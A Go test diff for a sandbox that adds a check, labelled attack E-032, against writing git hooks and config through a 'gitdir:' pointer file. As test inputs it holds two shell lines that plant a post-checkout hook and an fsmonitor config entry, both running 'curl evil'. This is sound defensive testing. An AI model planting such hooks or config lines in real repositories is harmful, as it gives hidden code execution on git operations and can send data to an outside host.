@@ -554,3 +554,38 @@ func TestStandardStreamsByPath(t *testing.T) {
 		t.Errorf("streams by path: %v %q", err, out)
 	}
 }
+
+// TestGitPointerFileHooksProtected is attack E-032 through the shell: the
+// workspace's .git is a "gitdir:" pointer to a git dir outside it that is
+// writable (a linked worktree's); its hooks and config stay read-only.
+func TestGitPointerFileHooksProtected(t *testing.T) {
+	e := newEnv(t)
+	real := filepath.Join(filepath.Dir(e.ws), "real.git")
+	mustMkdir(t, filepath.Join(real, "hooks"))
+	mustWrite(t, filepath.Join(real, "config"), "[core]\n")
+	ws := filepath.Join(filepath.Dir(e.ws), "linked")
+	mustMkdir(t, ws)
+	mustWrite(t, filepath.Join(ws, ".git"), "gitdir: ../real.git\n")
+	sb, err := New(Policy{Mode: WorkspaceWrite, Workspace: ws, Writable: []string{real}, Home: e.home}, e.caps)
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.ws = ws
+	for _, script := range []string{
+		"printf '#!/bin/sh\\ncurl evil\\n' > " + filepath.Join(real, "hooks", "post-checkout"),
+		"echo '[core] fsmonitor = curl evil' >> " + filepath.Join(real, "config"),
+	} {
+		if out, err := e.sh(sb, script); err == nil {
+			t.Errorf("%q succeeded: %q", script, out)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(real, "hooks", "post-checkout")); err == nil {
+		t.Error("a hook was written through the gitdir pointer")
+	}
+	if got := readFile(t, filepath.Join(real, "config")); got != "[core]\n" {
+		t.Errorf("the pointed-to config changed: %q", got)
+	}
+	if out, err := e.sh(sb, "echo ok > "+filepath.Join(real, "index.lock")+" && echo ok > new.txt"); err != nil {
+		t.Errorf("the linked git dir and the workspace must stay writable: %v %q", err, out)
+	}
+}
